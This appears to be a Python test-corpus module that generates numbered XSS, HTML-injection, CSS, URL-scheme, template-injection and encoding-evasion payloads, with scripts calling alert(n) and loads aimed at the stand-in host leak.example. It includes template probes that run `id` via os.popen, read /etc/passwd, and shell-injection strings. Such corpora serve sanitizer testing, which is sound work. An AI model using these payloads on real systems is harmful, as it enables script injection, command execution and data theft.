"""Texts that try to run a script in a reader's browser, or to tell somebody that the page is read.

They are made of a few kinds, each with its variations; where a script would run, it asks `alert(n)`, and what loads
something loads it from `leak.example`.
"""

from __future__ import annotations

import base64
import html
import itertools
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

HOST = "leak.example"
_RUN, _LOAD = "alert(%d)", f"https://{HOST}/%d"

EVENTS = (
    "error load click mouseover mouseenter focus blur toggle begin start finish animationstart animationend "
    "transitionend pointerenter pointerdown wheel scroll resize hashchange pageshow beforeunload copy paste input "
    "beforetoggle contextmenu dragstart keydown"
).split()
_HOLDERS = (
    "<img src=x on{0}={1}>",
    '<svg on{0}="{1}"/>',
    "<details open on{0}={1}>",
    '<input autofocus on{0}="{1}">',
    "<p tabindex=0 autofocus on{0}='{1}'>t</p>",
)
_TAGS = (
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<script src={load}></script>",
    "<script type=module>import '{load}'</script>",
    "<scr<script>ipt>{run}</script>",
    "<script\n>{run}</script\n>",
    "<script/x>{run}</script>",
    "<iframe src='javascript:{run}'></iframe>",
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    "<iframe src={load}></iframe>",
    "<object data={load}></object>",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<embed src={load}>",
    "<applet code={load}></applet>",
    "<link rel=stylesheet href={load}>",
    "<link rel=prefetch href={load}><link rel=preload as=image href={load}>",
    "<link rel=dns-prefetch href=//leak.example><link rel=preconnect href=//leak.example>",
    "<base href={load}/>",
    "<meta http-equiv=refresh content='0;url={load}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<form action={load}><button autofocus onfocus={run}>b</button></form>",
    "<isindex action=javascript:{run} type=image>",
    "<video src={load} onerror={run}></video>",
    "<video poster={load}></video>",
    "<audio src={load} autoplay onerror={run}></audio>",
    "<video><source onerror={run}><track src={load} default></video>",
    "<picture><source srcset={load}><img src=x></picture>",
    "<img src={load}>",
    "<img srcset='{load} 2x' src=x>",
    "<image src={load} onerror={run}>",
    "<input type=image src={load} onerror={run}>",
    "<body onload={run} background={load}>",
    "<frameset onload={run}><frame src={load}></frameset>",
    "<marquee onstart={run}>t</marquee>",
    "<table background={load}><tr><td background={load}>t</td></tr></table>",
    "<math><mtext><style><img src=x onerror={run}></style></mtext></math>",
    "<math href='javascript:{run}'>t</math>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href={load} /></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>t</text></a></svg>",
    "<svg><use href='{load}#a'/><image href='{load}'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<template><script>{run}</script></template><template shadowrootmode=open><img src={load}></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>t</p></noscript>",
    "<textarea><img title='</textarea><img src=x onerror={run}>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'></xmp>",
    "<title><img title='</title><img src=x onerror={run}>'></title>",
    "<select><style></select><img src=x onerror={run}></style></select>",
    "<portal src={load}></portal><fencedframe src={load}></fencedframe>",
    "<a ping={load} href=#x>t</a>",
    "<blockquote cite='javascript:{run}'>t</blockquote><q cite={load}>t</q>",
    "<dialog open onclose={run}>t</dialog><p popover=manual onbeforetoggle={run}>t</p>",
    "<button formaction='javascript:{run}'>t</button>",
    "<custom-element onclick={run} style='background:url({load})'>t</custom-element>",
)
_BREAKOUTS = (
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    '" autofocus tabindex=0 onfocus={run} x="',
    "' onmouseover='{run}' x='",
    "` onmouseover=`{run}` x=`",
    "--><script>{run}</script><!--",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "</script><script>{run}</script>",
    "</ScRiPt ><img src=x onerror={run}>",
    '</script>"}}<script>{run}</script>',
    "<!--<script>{run}</script>",
    "<!--><script>{run}</script>",
    '"}}]}};{run};//',
    '\\"}};{run};//',
    "\u2028{run}\u2029//",
    "*/{run}/*",
    "</textarea></title></style></noscript></script><script>{run}</script>",
    "</main></body><script>{run}</script>",
    "]]><script>{run}</script>",
    "<![CDATA[<script>{run}</script>]]>",
    "<svg><![CDATA[</svg><script>{run}</script>]]></svg>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "{load}">]><p>&e;</p>',
    "<!ENTITY e '<script>{run}</script>'>&e;",
    "<?xml-stylesheet href='{load}'?><?php echo 1 ?>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
    "%0d%0aContent-Type:text/html%0d%0a<script>{run}</script>",
    "</p></div></article><form action={load}><input name=x autofocus></form>",
)
_STYLES = (
    "<p style='background:url({load})'>t</p>",
    "<p style='background:url(javascript:{run})'>t</p>",
    "<p style='width:expression({run})'>t</p>",
    "<p style='-moz-binding:url({load}#x)'>t</p>",
    "<p style='behavior:url({load})'>t</p>",
    "<p style='position:fixed;inset:0;z-index:99'>t</p>",
    "<p style='content:\"\\3c script>\"'>t</p>",
    "<style>*{{background:url({load})}}</style>",
    "<style>@import '{load}';</style>",
    "<style>@font-face{{font-family:x;src:url({load})}}*{{font-family:x}}</style>",
    "<style>p{{animation:x 1s}}@keyframes x{{}}</style><p onanimationstart={run}>t</p>",
    "<div class='masthead skip' role=alert id=l10n-article>t</div>",
    "}}</style><script>{run}</script>",
    ";background:url({load});",
)
_SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " javascript:{run}",
    "javascript&colon;{run}",
    "javascript://%0a{run}",
    "vbscript:{run}",
    "livescript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:image/svg+xml,<svg onload={run}>",
    "view-source:javascript:{run}",
    "feed:javascript:{run}",
    "blob:{load}",
    "filesystem:{load}",
    "file:///etc/passwd",
    "ftp://leak.example/x",
    "\\\\leak.example\\x",
)
_LINKS = ('<a href="{0}">t</a>', "[t](<{0}>)", "![t](<{0}>)", '<area href="{0}">', "[t]: <{0}>\n\n[t]")
_TEMPLATES = (
    "{{{{ 7*7 }}}}",
    "{{% print(7*7) %}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
    "{{% include '/etc/passwd' %}}",
    "{{% raw %}}{{{{ x }}}}{{% endraw %}}",
    "{{% endblock %}}{{% block main %}}<script>{run}</script>{{% endblock %}}",
    "{{{{ '<script>{run}</script>' | safe }}}}",
    "{{# <script>{run}</script> #}}",
    "${{7*7}} #{{7*7}} <%= 7*7 %> @(7*7) *{{7*7}}",
    "%(name)s %s %d {{0.__class__}} {{article}}",
    "{{{{< script >}}}}{{{{< /script >}}}} {{{{ .Site }}}}",
    "[[${{7*7}}]] [(${{T(java.lang.Runtime)}})]",
    "%n %x %p $(id) `id` ; id | id && id",
)
_OWN = (
    "<a1 href='javascript:{run}'>t</a1>",
    '<em onclick="{run}">t</em>',
    "<a1><script>{run}</script></a1>",
    "<br onload={run}/>",
    "</em></a1><script>{run}</script><em><a1>",
    "<em title=\"x\" onclick='{run}'>t</em>",
    '<em title="\'><script>{run}</script>">t</em>',
    "&lt;em&gt;<em><em><em>t",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "<a99>t</a99><img1/><svg1 onload={run}/>",
)
_INVISIBLE = "\u200b\u200c\u200d\u2060\u00ad\ufeff\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u061c\u180e\u034f"
_ENCODED = (
    "&#60;script&#62;{run}&#60;/script&#62;",
    "&#x3c;script&#x3e;{run}&#x3c;/script&#x3e;",
    "&#0000060script&#0000062{run}&#0000060/script&#0000062",
    "&amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{run}%3C/script%3E",
    "%253Cscript%253E{run}%253C/script%253E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "\\074script\\076{run}\\074/script\\076",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u2039script\u203a{run}\u2039/script\u203a",
    "\ufe64script\ufe65{run}\ufe64/script\ufe65",
    "<\u017fcript>{run}</\u017fcript>",
    "<img src=x onerror=\u2028{run}>",
    "<img/src=x/onerror={run}>",
    "<img\tsrc=x\tonerror\t=\t{run}>",
    "<img src=`x` onerror=`{run}`>",
    "<img src=x onerror={run}//",
    "<<script>{run}//<</script>",
    "<img src='x' \u00a0onerror={run}>",
    "&lt;img src=x onerror={run}&gt;",
    "<script>\\u0061lert(1)</script>",
    "\ud7ff<script>{run}</script>\ue000",
)


def payloads() -> list[str]:
    """All of them, each with a number of its own; the same on every day."""
    made = list(dict.fromkeys(_forms()))
    return [_numbered(form, number) for number, form in enumerate(made, 1)]


def _forms() -> Iterator[str]:
    yield from itertools.chain(_TAGS, _BREAKOUTS, _STYLES, _TEMPLATES, _OWN, _ENCODED)
    for number, event in enumerate(EVENTS):
        for holder in (_HOLDERS[number % len(_HOLDERS)], _HOLDERS[(number + 2) % len(_HOLDERS)]):
            yield holder.format(event, "{run}")
    for number, scheme in enumerate(_SCHEMES):
        for link in (_LINKS[0], _LINKS[1 + number % (len(_LINKS) - 1)]):
            yield link.replace("{0}", scheme)
    yield from (f'<a href="{_entities(scheme)}">t</a>' for scheme in _SCHEMES[:10])
    yield from (f"<em>{form}</em>" for form in _TAGS[::3])
    yield from (f"{{{{ x }}}}{form}" for form in _BREAKOUTS[::3])
    yield from (f"<scr{sign}ipt>{{run}}</scr{sign}ipt>" for sign in _INVISIBLE)
    yield from (f"<img {sign}onerror={{run}} src=x>{sign}" for sign in _INVISIBLE)
    yield from (f"{sign}</title><script>{{run}}</script>{sign}" for sign in _INVISIBLE[5:10])
    yield f'<a href="data:text/html;base64,{base64.b64encode(b"<script>alert(1)</script>").decode()}">t</a>'


def _entities(text: str) -> str:
    """A text of which only a parser sees what it says."""
    head, colon, rest = text.partition(":")
    return "".join(f"&#x{ord(sign):x};" for sign in html.unescape(head)) + colon + rest


def _numbered(form: str, number: int) -> str:
    return form.format(run=_RUN % number, load=_LOAD % number)
